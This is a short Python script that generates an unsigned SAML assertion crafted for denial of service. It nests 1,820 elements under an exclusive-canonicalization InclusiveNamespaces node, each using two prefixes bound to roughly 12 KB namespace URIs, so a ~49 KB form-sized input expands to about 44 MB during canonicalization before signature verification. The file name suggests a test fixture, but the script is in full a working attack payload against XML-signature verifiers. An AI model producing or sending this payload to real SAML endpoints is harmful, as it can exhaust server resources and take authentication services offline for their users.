#!/usr/bin/env python3
"""Writes saml_assertion-1.bin: an unsigned SAML assertion whose SignedInfo
carries N elements under ds:CanonicalizationMethod/ec:InclusiveNamespaces,
each using two prefixes bound (on InclusiveNamespaces) to ~12 KB URIs.
Exclusive c14n re-renders both declarations on every element, so the
SignedInfo canonicalized before the signature check is ~N*24 KB (~44 MB for
a 49 KB document that fits a 64 KiB form body as base64url)."""
import sys
DS = "http://www.w3.org/2000/09/xmldsig#"
EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"
L, N = 12000, 1820
decls = "".join(f' xmlns:{c}="urn:{c * (L - 4)}"' for c in "pq")
kids = "<p:x q:a=''/>" * N
xml = (f'<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a" Version="2.0" IssueInstant="2027-01-15T08:00:00Z">'
       f'<saml:Issuer>https://saml-idp.example.com</saml:Issuer>'
       f'<ds:Signature xmlns:ds="{DS}"><ds:SignedInfo>'
       f'<ds:CanonicalizationMethod Algorithm="{EXC}"><ec:InclusiveNamespaces xmlns:ec="{EXC}" PrefixList=""{decls}>{kids}</ec:InclusiveNamespaces></ds:CanonicalizationMethod>'
       f'<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
       f'<ds:Reference URI="#_a"><ds:Transforms><ds:Transform Algorithm="{DS}enveloped-signature"/><ds:Transform Algorithm="{EXC}"/></ds:Transforms>'
       f'<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:SignedInfo>'
       f'<ds:SignatureValue>{"A" * 344}</ds:SignatureValue></ds:Signature></saml:Assertion>')
sys.stdout.buffer.write(xml.encode())
